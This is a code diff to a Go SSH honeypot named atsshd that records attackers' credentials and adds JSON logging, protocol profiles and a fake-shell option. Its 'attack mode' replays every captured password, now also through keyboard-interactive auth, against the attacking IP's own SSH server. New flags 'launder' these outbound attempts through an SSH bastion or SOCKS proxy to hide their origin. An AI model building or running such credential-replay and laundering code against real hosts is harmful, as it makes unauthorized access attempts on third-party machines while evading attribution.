@@ -1,9 +1,13 @@
 // atsshd
-// usage: atsshd [-A] [-b banner] [-p port] [-l logfile] [-h hostkeyfile]
+// usage: atsshd [-A] [-b banner] [-p port] [-l logfile] [-j jsonfile] [-h hostkeyfile] [-k prompt]
+//               [-profile name] [-allow-shell] [-shell-prob p] [-shell-after n]
+//               [-attack-via ssh://user@host:port] [-attack-socks host:port] [-attack-proxy-key file]
+//               [-keystore-backend json|bolt] [-keystore-file file] [-stats-addr address]
 
 package main
 
 import (
+	"context"
 	"crypto/rand"
 	"crypto/rsa"
 	"crypto/x509"
@@ -14,11 +18,13 @@ import (
 	"io"
 	"io/ioutil"
 	"log"
+	mrand "math/rand"
 	"net"
 	"os"
 	"regexp"
 	"strconv"
 	"strings"
+	"sync"
 	"time"
 
 	"golang.org/x/crypto/ssh"
@@ -34,6 +40,14 @@ const (
 	CredBacklog     = 2048
 )
 
+// DefChallenge is the prompt shown to keyboard-interactive clients when no
+// custom challenge list is supplied via -k.
+const DefChallenge = "Password: "
+
+// jlog is the optional structured JSON event sink selected via -j. It is
+// nil (and every emit a no-op) unless -j was passed.
+var jlog *jsonSink
+
 type multVar []string
 
 func (m *multVar) String() string {
@@ -59,10 +73,49 @@ type Attacker struct {
 	host string
 }
 
+// shellPolicy decides whether an authenticating attacker should be let in
+// to a fake shell, either with a flat probability or after the Nth attempt
+// from the same IP.
+type shellPolicy struct {
+	allow bool
+	prob  float64
+	after int
+
+	mu       sync.Mutex
+	attempts map[string]int
+}
+
+func newShellPolicy(allow bool, prob float64, after int) *shellPolicy {
+	return &shellPolicy{
+		allow:    allow,
+		prob:     prob,
+		after:    after,
+		attempts: make(map[string]int),
+	}
+}
+
+// allowAuth records one more auth attempt from host and reports whether this
+// attempt should be allowed to succeed.
+func (p *shellPolicy) allowAuth(host string) bool {
+	if !p.allow {
+		return false
+	}
+	p.mu.Lock()
+	p.attempts[host]++
+	n := p.attempts[host]
+	p.mu.Unlock()
+
+	if p.after > 0 {
+		return n >= p.after
+	}
+	return p.prob > 0 && mrand.Float64() < p.prob
+}
+
 // a goroutine - maintains the cache of attacker IPs.
-func attackLoop(banner string, attCh <-chan *Attacker) {
+func attackLoop(banner string, attCh <-chan *Attacker, dialer Dialer, dialerTag string, store HostKeyStore) {
 	cacheMap := make(map[string]chan *Cred, 1024)
 	doneCh := make(chan string, 32)
+	tracker := newDialTracker()
 	for {
 		select {
 		case attacker := <-attCh:
@@ -70,7 +123,7 @@ func attackLoop(banner string, attCh <-chan *Attacker) {
 			if !ok {
 				credCh = make(chan *Cred, CredBacklog)
 				cacheMap[attacker.host] = credCh
-				go attack(attacker.host, banner, credCh, doneCh)
+				go attack(attacker.host, banner, credCh, doneCh, dialer, dialerTag, tracker, store)
 			}
 			// non-blocking send so we don't ever get held up.
 			select {
@@ -86,8 +139,7 @@ func attackLoop(banner string, attCh <-chan *Attacker) {
 }
 
 // a goroutine - dedicated to serially attacking a host
-func attack(host, banner string, credCh <-chan *Cred, doneCh chan<- string) {
-	netfailed := 0
+func attack(host, banner string, credCh <-chan *Cred, doneCh chan<- string, dialer Dialer, dialerTag string, tracker *dialTracker, store HostKeyStore) {
 	target := net.JoinHostPort(host, strconv.Itoa(DefPort))
 	timer := time.NewTimer(DefCacheTimeout)
 L:
@@ -95,32 +147,49 @@ L:
 		timer.Reset(DefCacheTimeout)
 		select {
 		case cred := <-credCh:
-			if netfailed >= 3 {
-				if netfailed == 3 {
-					log.Printf("NOT attacking %s: too many network failures.\n", host)
-					netfailed = netfailed + 1
-				}
-				continue // don't connect out after 3 network failures in a row.
+			if tracker.tooManyFailures(dialerTag, target) {
+				continue // don't connect out while this dialer/target pair is unhealthy.
 			}
-			c, err := net.Dial("tcp", target)
+			c, err := dialer.Dial("tcp", target)
+			tracker.record(dialerTag, target, err == nil)
 			if err != nil {
 				log.Printf("Fail: unable to establish tcp connection to %s\n", target)
-				netfailed = netfailed + 1
 				continue
 			}
-			netfailed = 0
 			cConfig := &ssh.ClientConfig{
-				User:          cred.user,
-				Auth:          []ssh.AuthMethod{ssh.Password(cred.pass)},
+				User: cred.user,
+				Auth: []ssh.AuthMethod{
+					ssh.Password(cred.pass),
+					ssh.KeyboardInteractive(keyboardInteractiveAnswer(cred.pass)),
+				},
 				ClientVersion: banner,
+				HostKeyCallback: func(hostname string, remote net.Addr, key ssh.PublicKey) error {
+					rec, changed, err := store.Record(host, key)
+					if err != nil {
+						log.Printf("unable to record host key for %s: %s\n", host, err)
+						return nil
+					}
+					if changed {
+						log.Printf("*** NOTICE ***: host key for %s changed (possible NAT/rebuild/impersonation): %s -> %s\n",
+							host, rec.FirstSeenSHA256, rec.LastSeenSHA256)
+					}
+					return nil // never fail the handshake over a host key mismatch
+				},
 			}
 			conn, _, _, err := ssh.NewClientConn(c, target, cConfig)
-			if err != nil {
+			success := err == nil
+			if !success {
 				log.Printf("Fail: tried attacking %s with %s\n", host, cred)
 			} else {
 				conn.Close()
 				log.Printf("*** SUCCESS ***: %s worked on %s\n", cred, host)
 			}
+			jlog.emit("attack_result", map[string]interface{}{
+				"host":    host,
+				"user":    cred.user,
+				"pass":    cred.pass,
+				"success": success,
+			})
 			c.Close()
 
 		case <-timer.C:
@@ -130,13 +199,54 @@ L:
 	doneCh <- host
 }
 
+// keyboardInteractiveAnswer builds an ssh.KeyboardInteractiveChallenge that
+// replays pass as the answer to every question it is asked, so a credential
+// harvested via keyboard-interactive auth can be replayed the same way.
+func keyboardInteractiveAnswer(pass string) ssh.KeyboardInteractiveChallenge {
+	return func(user, instruction string, questions []string, echos []bool) ([]string, error) {
+		answers := make([]string, len(questions))
+		for i := range questions {
+			answers[i] = pass
+		}
+		return answers, nil
+	}
+}
+
 // a goroutine - one for each incoming attacker
 func handle(c net.Conn, sConfig *ssh.ServerConfig) {
 	defer c.Close()
 
-	log.Printf("Attacker connection from: %s\n", c.RemoteAddr())
-	ssh.NewServerConn(c, sConfig)
-	log.Printf("Closed connection from: %s\n", c.RemoteAddr())
+	addr := c.RemoteAddr().String()
+	log.Printf("Attacker connection from: %s\n", addr)
+	jlog.emit("connection_open", map[string]interface{}{"remote_addr": addr})
+
+	info := &handshakeInfo{ConnID: addr}
+	registerHandshakeInfo(addr, info)
+	defer unregisterHandshakeInfo(addr)
+
+	ctx := withHandshakeInfo(context.Background(), info)
+
+	pc := newPeekConn(c, info)
+	sconn, chans, reqs, err := ssh.NewServerConn(pc, sConfig)
+	if err != nil {
+		log.Printf("Closed connection from: %s\n", addr)
+		emitHandshakeOnce(addr, info, jlog, effectiveConfig(sConfig))
+		jlog.emit("connection_close", map[string]interface{}{"remote_addr": addr, "error": err.Error()})
+		return
+	}
+	serveConn(ctx, sconn, chans, reqs)
+	log.Printf("Closed connection from: %s\n", addr)
+	emitHandshakeOnce(addr, info, jlog, effectiveConfig(sConfig))
+	jlog.emit("connection_close", map[string]interface{}{"remote_addr": addr})
+}
+
+// effectiveConfig returns sConfig.Config with SetDefaults applied, so
+// negotiated algorithm names are real ones even when -profile left fields
+// unset (and the honeypot is relying on the library's built-in defaults).
+func effectiveConfig(sConfig *ssh.ServerConfig) ssh.Config {
+	cfg := sConfig.Config
+	cfg.SetDefaults()
+	return cfg
 }
 
 func generateRSA_Key(bits int) (ssh.Signer, error) {
@@ -164,14 +274,42 @@ func main() {
 	var (
 		listenPort = flag.Int("p", DefPort, "`port` to listen on")
 		logFile    = flag.String("l", "", "output log `file`")
+		jsonFile   = flag.String("j", "", "structured JSON event log `file` (use - for stdout)")
 		attackMode = flag.Bool("A", false, "enable attack mode")
 		bannerLine = flag.String("b", DefBanner, "SSH server `banner`")
 
+		profileName = flag.String("profile", "", "algorithm `profile` to mimic: openssh-8.9, dropbear-2020.81, libssh-0.9, or custom:<path>")
+
+		allowShell = flag.Bool("allow-shell", false, "occasionally let an attacker authenticate into a fake shell")
+		shellProb  = flag.Float64("shell-prob", 0, "probability (0-1) that an auth attempt succeeds when -allow-shell is set")
+		shellAfter = flag.Int("shell-after", 0, "let auth succeed on the Nth attempt from an IP when -allow-shell is set (0 disables, overrides -shell-prob)")
+
+		attackVia      = flag.String("attack-via", "", "launder outbound attack replay through an SSH bastion, e.g. ssh://user@host:22")
+		attackSocks    = flag.String("attack-socks", "", "launder outbound attack replay through a SOCKS5 proxy, e.g. host:port")
+		attackProxyKey = flag.String("attack-proxy-key", "", "private key `file` used to authenticate to -attack-via")
+
+		keystoreBackend = flag.String("keystore-backend", "json", "target host-key store backend: json or bolt")
+		keystoreFile    = flag.String("keystore-file", "", "path to the host-key store `file` (defaults to hostkeys.json or hostkeys.db)")
+		statsAddr       = flag.String("stats-addr", "", "`address` to serve the collected host-key mapping as JSON, e.g. :9000")
+
 		hostKeyFiles = make(multVar, 0)
+		challenges   = make(multVar, 0)
 	)
 	flag.Var(&hostKeyFiles, "h", "SSH server host key PEM `file`s")
+	flag.Var(&challenges, "k", "keyboard-interactive `prompt` to ask (repeatable, default a single password prompt)")
 	flag.Parse()
 
+	policy := newShellPolicy(*allowShell, *shellProb, *shellAfter)
+
+	profile, err := loadProfile(*profileName)
+	if err != nil {
+		log.Fatal(err)
+	}
+
+	if len(challenges) == 0 {
+		challenges = multVar{DefChallenge}
+	}
+
 	match := regexp.MustCompile(`^SSH-2.0-[[:alnum:]]+`).MatchString(*bannerLine)
 	if !match {
 		log.Fatal("ERROR: SSH2 banner must start with SSH-2.0- and contain at least one additional character")
@@ -186,8 +324,53 @@ func main() {
 		log.Printf("Logging output to: %s\n", *logFile)
 	}
 
+	if *jsonFile != "" {
+		sink, err := openJSONSink(*jsonFile)
+		if err != nil {
+			log.Fatalf("ERROR: unable to open JSON event log: %s\n", *jsonFile)
+		}
+		jlog = sink
+		log.Printf("Logging structured JSON events to: %s\n", *jsonFile)
+	}
+
+	var (
+		dialer    Dialer = &net.Dialer{}
+		dialerTag        = "direct"
+	)
+	switch {
+	case *attackVia != "" && *attackSocks != "":
+		log.Fatal("ERROR: -attack-via and -attack-socks are mutually exclusive")
+	case *attackVia != "":
+		if *attackProxyKey == "" {
+			log.Fatal("ERROR: -attack-via requires -attack-proxy-key")
+		}
+		d, err := newBastionDialer(*attackVia, *attackProxyKey)
+		if err != nil {
+			log.Fatal(err)
+		}
+		dialer, dialerTag = d, "bastion:"+*attackVia
+		log.Printf("Laundering outbound attacks through bastion: %s\n", *attackVia)
+	case *attackSocks != "":
+		d, err := newSocksDialer(*attackSocks)
+		if err != nil {
+			log.Fatal(err)
+		}
+		dialer, dialerTag = d, "socks:"+*attackSocks
+		log.Printf("Laundering outbound attacks through SOCKS proxy: %s\n", *attackSocks)
+	}
+
+	keystore, err := openHostKeyStore(*keystoreBackend, *keystoreFile)
+	if err != nil {
+		log.Fatal(err)
+	}
+	defer keystore.Close()
+
+	if *statsAddr != "" {
+		go serveStats(*statsAddr, keystore)
+	}
+
 	attCh := make(chan *Attacker, 32)
-	go attackLoop(*bannerLine, attCh)
+	go attackLoop(*bannerLine, attCh, dialer, dialerTag, keystore)
 
 	sConfig := &ssh.ServerConfig{
 		PasswordCallback: func(conn ssh.ConnMetadata, pass []byte) (*ssh.Permissions, error) {
@@ -196,32 +379,87 @@ func main() {
 				log.Fatalf("bad host or port: %s\n", conn.RemoteAddr())
 			}
 			log.Printf("Attacker %s (%s) password auth - %s : %s\n", host, conn.ClientVersion(), conn.User(), pass)
+			jlog.emit("auth_attempt", map[string]interface{}{
+				"remote_addr": conn.RemoteAddr().String(),
+				"method":      "password",
+				"user":        conn.User(),
+				"password":    string(pass),
+			})
 			if *attackMode && host != "127.0.0.1" {
 				attCh <- &Attacker{
 					Cred{conn.User(), string(pass)},
 					host,
 				}
 			}
+			if policy.allowAuth(host) {
+				log.Printf("Allowing %s into a fake shell (password auth).\n", host)
+				return nil, nil
+			}
 			return nil, errors.New("password auth failed") // always fail
 		},
+		KeyboardInteractiveCallback: func(conn ssh.ConnMetadata, challenge ssh.KeyboardInteractiveChallenge) (*ssh.Permissions, error) {
+			host, _, err := net.SplitHostPort(conn.RemoteAddr().String())
+			if err != nil {
+				log.Fatalf("bad host or port: %s\n", conn.RemoteAddr())
+			}
+			echos := make([]bool, len(challenges))
+			answers, err := challenge("", "", challenges, echos)
+			if err != nil {
+				return nil, err
+			}
+			for i, answer := range answers {
+				log.Printf("Attacker %s (%s) keyboard-interactive auth - %s : %q : %s\n", host, conn.ClientVersion(), conn.User(), challenges[i], answer)
+			}
+			jlog.emit("auth_attempt", map[string]interface{}{
+				"remote_addr": conn.RemoteAddr().String(),
+				"method":      "keyboard-interactive",
+				"user":        conn.User(),
+				"answers":     answers,
+			})
+			if *attackMode && host != "127.0.0.1" && len(answers) > 0 {
+				attCh <- &Attacker{
+					Cred{conn.User(), answers[0]},
+					host,
+				}
+			}
+			if policy.allowAuth(host) {
+				log.Printf("Allowing %s into a fake shell (keyboard-interactive auth).\n", host)
+				return nil, nil
+			}
+			return nil, errors.New("keyboard-interactive auth failed") // always fail
+		},
 		PublicKeyCallback: func(conn ssh.ConnMetadata, key ssh.PublicKey) (*ssh.Permissions, error) {
 			host, _, err := net.SplitHostPort(conn.RemoteAddr().String())
 			if err != nil {
 				log.Fatalf("bad host or port: %s\n", conn.RemoteAddr())
 			}
 			log.Printf("Attacker %s (%s) pubkey auth - %s : %s %s\n", host, conn.ClientVersion(), conn.User(), key.Type(), ssh.FingerprintLegacyMD5(key))
+			if info := handshakeInfoForConn(conn); info != nil {
+				info.addPubKey(key)
+			}
+			jlog.emit("auth_attempt", map[string]interface{}{
+				"remote_addr": conn.RemoteAddr().String(),
+				"method":      "publickey",
+				"user":        conn.User(),
+				"key_type":    key.Type(),
+				"key_sha256":  ssh.FingerprintSHA256(key),
+			})
 			return nil, errors.New("pubkey auth failed") // always fail
 		},
 		ServerVersion: *bannerLine,
 	}
 
+	hostKeyOrder := defaultHostKeyOrder
+	if profile != nil {
+		applyProfile(sConfig, profile)
+		hostKeyOrder = profile.HostKeyOrder
+		log.Printf("Using algorithm profile: %s\n", profile.Name)
+	}
+
 	if len(hostKeyFiles) == 0 {
-		signer, err := generateRSA_Key(DefKeyBits)
-		if err != nil {
+		if err := addGeneratedHostKeys(sConfig, hostKeyOrder); err != nil {
 			log.Fatal(err)
 		}
-		sConfig.AddHostKey(signer)
-		log.Printf("Added host key to the configuration (%s)\n", signer.PublicKey().Type())
 	} else {
 		for _, file := range hostKeyFiles {
 			signer, err := prepareHostKey(file)